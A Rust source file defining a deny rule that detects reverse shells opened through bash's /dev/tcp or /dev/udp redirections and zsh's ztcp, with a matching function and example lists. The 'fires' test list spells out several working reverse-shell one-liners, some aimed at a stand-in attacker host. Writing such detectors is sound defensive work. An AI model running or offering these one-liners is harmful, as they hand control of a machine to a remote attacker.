//! A shell wired to a network socket through bash's `/dev/tcp` or
//! `/dev/udp`: `bash -i >& /dev/tcp/h/p 0>&1`, `sh -i 5<> /dev/udp/…`,
//! or `exec N<>/dev/tcp/…` followed by a shell.
//!
//! Inspects every command: the socket is a redirection any program can carry.

use crate::rules::prelude::*;
use crate::rules::shared::sessions::redirects_of;

pub(crate) static RULE: Rule = Rule {
    code: "RAC001",
    name: "reverse-shell-dev-tcp",
    category: Category::RemoteAccess,
    decision: Decision::Deny,
    commands: &[],
    summary: "connects a shell to a remote host through /dev/tcp",
    why: "A reverse shell hands control of the machine to whoever listens on the other end.",
    check,
    fires: &[
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "sh -i >& /dev/udp/10.0.0.1/53 0>&1",
        "/bin/bash -l > /dev/tcp/evil.example.com/443 0<&1 2>&1",
        "sudo bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
        "nohup bash -i &>/dev/tcp/10.0.0.1/9001 0>&1 &",
        "exec 5<>/dev/tcp/10.0.0.1/4444; sh <&5 >&5 2>&5",
        "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
        "h=10.0.0.1; bash -i >& /dev/tcp/$h/4444 0>&1",
    ],
    passes: &["bash -i", "echo hi > /dev/tcp/127.0.0.1/9000", "bash script.sh > out.log 2>&1", "cat < /dev/tcp/time.nist.gov/13"],
};

fn is_shell(cmd: &Command) -> bool {
    crate::ir::programs::runs_code(&cmd.name)
}

fn check(cmd: &Command, cx: &Context<'_>) -> Option<Hit> {
    if cmd.name == "ztcp" {
        let shell_follows =
            cx.script.commands.iter().any(|c| c.id > cmd.id && crate::ir::is_shell(&c.name) && c.redirects.iter().any(|r| r.target.text.contains("REPLY")));
        return shell_follows.then(|| Hit::command().with_message("`ztcp` connects a zsh to a remote host"));
    }
    let sock = redirects_of(cx.script, cmd).into_iter().find(|r| r.target.path == PathClass::NetSocket)?;
    if is_shell(cmd) && cmd.wraps.is_none() {
        return Some(Hit::on(&sock.target).with_message(format!("`{}` is wired to the socket `{}`", cmd.name, sock.target.text)));
    }
    if cmd.name == "exec" {
        let shell = cx.script.commands.iter().any(|c| c.id != cmd.id && (crate::ir::is_shell(&c.name) && c.wraps.is_none() || c.program.dynamic));
        if shell {
            return Some(Hit::on(&sock.target).with_message(format!("opens `{}` and runs a shell on it", sock.target.text)));
        }
    }
    None
}
